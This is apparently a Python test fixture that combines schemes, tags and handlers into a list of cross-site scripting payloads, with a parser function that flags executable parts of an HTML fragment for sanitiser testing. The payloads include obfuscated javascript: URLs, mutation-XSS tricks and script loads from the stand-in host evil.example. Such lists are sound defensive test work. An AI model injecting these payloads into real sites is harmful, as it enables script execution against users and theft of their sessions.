"""What hostile pages, editors and readers try so that a script runs: two hundred and more, made by combination.

Each carries `MARK`, a call that a browser would make if any of it ran. `executable_parts` says what of a page could run.
"""

from __future__ import annotations

from html.parser import HTMLParser
from itertools import product

MARK = "pwned()"

_SCHEMES = [
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}", "javascript&colon;{}",
    "&#106;avascript:{}", "&#x6A;avascript&#58;{}", "javascript://%0a{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+", "//evil.example/x.js#{}",
]  # fmt: skip
_CARRIERS = [
    '<a href="{}">read on</a>', '<img src="{}">', '<iframe src="{}"></iframe>', '<form action="{}"><button>Go</button></form>',
    '<object data="{}"></object>', '<embed src="{}">', '<blockquote cite="{}">said</blockquote>', '<button formaction="{}">Go</button>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
]  # fmt: skip
_HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "ontoggle", "onpointerover"]
_HANDLED = [
    '<img src=x {}="{}">', "<p {}='{}'>words</p>", "<svg {}={}>", "<details open {}={}>words</details>", '<video><source {}="{}"></video>',
    '<a href="https://lantern.example/" {}="{}" autofocus tabindex=0>link</a>', "<body {}={}>", "<marquee {}={}>words</marquee>",
]  # fmt: skip
_OTHERS = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>", "<scr<script>ipt>{}</scr</script>ipt>", "<script/x>{}</script>",
    "<style>@import '//evil.example/{}';</style>", '<p style="background:url(javascript:{})">words</p>', '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="javascript:{}//">', '<link rel=stylesheet href="javascript:{}">', "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror={}>"></noscript>', "<template><script>{}</script></template>", "<!--><img src=x onerror={}>-->",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", '<iframe srcdoc="<script>{}</script>"></iframe>', "<![CDATA[<script>{}</script>]]>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</script><script>{}</script>", '"><script>{}</script>', "'><img src=x onerror={}>", "<img src=`x` onerror={}>",
    "<xmp><img src=x onerror={}></xmp>", '<table background="javascript:{}"><tr><td>x</td></tr></table>', '<isindex action="javascript:{}">',
    "<select><option><style></select><img src=x onerror={}></style>", "\ufeff<script>{}</script>", "<\x00script>{}</script>", "{{{{constructor.constructor('{}')()}}}}",
]  # fmt: skip

PAYLOADS = [
    *(carrier.format(scheme.format(MARK)) for carrier, scheme in product(_CARRIERS, _SCHEMES)),
    *(handled.format(name, MARK) for handled, name in product(_HANDLED, _HANDLERS)),
    *(each.format(MARK) for each in _OTHERS),
]

_RUNS = frozenset(
    [
        "script",
        "iframe",
        "object",
        "embed",
        "applet",
        "base",
        "meta",
        "link",
        "style",
        "svg",
        "math",
        "form",
        "button",
        "input",
        "frame",
        "frameset",
    ]
)
_ADDRESSES = frozenset(["href", "src", "action", "formaction", "data", "cite", "background", "xlink:href", "poster"])


def executable_parts(fragment: str) -> list[str]:
    """What of a fragment of HTML could run or submit, as a parser sees it; nothing of a safe one."""
    found: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in _RUNS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                bare = "".join(c for c in value or "" if c > " ").lower()
                if (
                    name.startswith("on")
                    or name in {"style", "srcdoc"}
                    or (
                        name in _ADDRESSES
                        and bare.partition(":")[0] in {"javascript", "vbscript", "data"}
                        and ":" in bare
                    )
                ):
                    found.append(f"{tag} {name}={value}")

    parser = Parser(convert_charrefs=True)
    parser.feed(fragment)
    parser.close()
    return found
